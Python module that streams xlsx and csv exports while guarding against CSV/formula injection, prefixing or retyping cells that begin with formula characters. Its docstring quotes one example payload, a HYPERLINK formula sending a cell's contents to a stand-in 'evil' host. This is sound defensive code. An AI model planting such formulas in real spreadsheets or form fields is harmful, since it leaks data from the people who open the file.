"""Spreadsheet writers (an export's file, an import's errors file): rows in, an xlsx or csv
file out, in bounded memory (openpyxl's write-only workbook keeps written rows on disk; csv is
written as it goes).

No value is ever run as a formula. A spreadsheet runs a cell that starts with `=`, `+`, `-`,
`@` (and, pasted or imported, a tab or carriage return before one) as a formula: a lead's name
typed as `=HYPERLINK("http://evil/?"&A1, "x")` on a web form would run on the sales manager's
machine (CSV injection, OWASP). In xlsx every text cell is stored as text (openpyxl would store
a string starting with `=` as a formula); in csv such a value is prefixed with `'`, which
spreadsheets read as "this is text"."""

import csv
import io
import uuid
from datetime import UTC, date, datetime
from decimal import Decimal
from enum import Enum
from typing import IO, Any, Protocol

import orjson
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from app.core.money import decimal_string

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_TYPE = "text/csv; charset=utf-8"


class SheetWriter(Protocol):
    def write_rows(self, rows: list[list[Any]]) -> None: ...

    def finish(self) -> None: ...


def _text(value: Any) -> str | None:
    """A value with no spreadsheet type of its own, as text (None for an empty cell)."""
    if value is None:
        return None
    if isinstance(value, str):
        return value
    if isinstance(value, Enum):
        return str(value.value)
    if isinstance(value, list | tuple):
        return "; ".join(str(v) for v in value)
    if isinstance(value, dict):
        return orjson.dumps(value).decode()
    return str(value)


class CsvWriter:
    """UTF-8 with a byte-order mark: without it Excel reads the file as the machine's code
    page and "Nguyễn" comes out as "NguyÃ¡»…n"."""

    def __init__(self, target: IO[bytes]) -> None:
        self._text = io.TextIOWrapper(target, encoding="utf-8-sig", newline="")
        self._csv = csv.writer(self._text)

    def write_rows(self, rows: list[list[Any]]) -> None:
        self._csv.writerows([[_csv_cell(value) for value in row] for row in rows])

    def finish(self) -> None:
        self._text.flush()
        self._text.detach()  # the target stays open: the caller reads it back


def _csv_cell(value: Any) -> str:
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, datetime):
        return value.astimezone(UTC).isoformat().replace("+00:00", "Z")
    if isinstance(value, date):
        return value.isoformat()
    if isinstance(value, Decimal):
        return decimal_string(value)
    if isinstance(value, int | float):
        return str(value)
    text = _text(value)
    if text is None:
        return ""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class XlsxWriter:
    def __init__(self, target: IO[bytes], *, title: str) -> None:
        self._target = target
        self._book = Workbook(write_only=True)
        self._sheet = self._book.create_sheet(title[:31])  # Excel's limit for a sheet name

    def write_rows(self, rows: list[list[Any]]) -> None:
        for row in rows:
            self._sheet.append([self._cell(value) for value in row])

    def finish(self) -> None:
        self._book.save(self._target)

    def _cell(self, value: Any) -> Any:
        if isinstance(value, bool | int | float | Decimal):
            return value
        if isinstance(value, datetime):
            # Excel has no time zones: the UTC time, as the API gives it.
            return value.astimezone(UTC).replace(tzinfo=None)
        if isinstance(value, date):
            return value
        if isinstance(value, uuid.UUID):
            return str(value)
        text = _text(value)
        if text is None:
            return None
        # Characters XML 1.0 cannot hold (control characters) would make the file unreadable.
        text = ILLEGAL_CHARACTERS_RE.sub("", text)
        if text.startswith(("=", "#", *FORMULA_STARTS)):
            # openpyxl types `=…` as a formula and `#N/A` as an error; a text cell is text.
            cell = WriteOnlyCell(self._sheet, value=text)
            cell.data_type = "s"
            return cell
        return text


def writer_for(format: str, target: IO[bytes], *, title: str) -> SheetWriter:
    return XlsxWriter(target, title=title) if format == "xlsx" else CsvWriter(target)


def content_type(format: str) -> str:
    return XLSX_TYPE if format == "xlsx" else CSV_TYPE
